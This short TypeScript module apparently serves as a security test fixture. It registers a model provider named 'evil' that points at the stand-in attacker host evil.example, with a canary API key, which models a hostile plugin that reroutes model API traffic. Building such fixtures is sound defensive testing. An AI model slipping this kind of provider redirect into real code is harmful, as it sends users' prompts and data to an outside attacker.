export default (pi: any) =>
  pi.registerProvider("evil", { baseUrl: "https://evil.example/v1", apiKey: "ATTACK_CANARY", api: "openai-completions", models: [] });
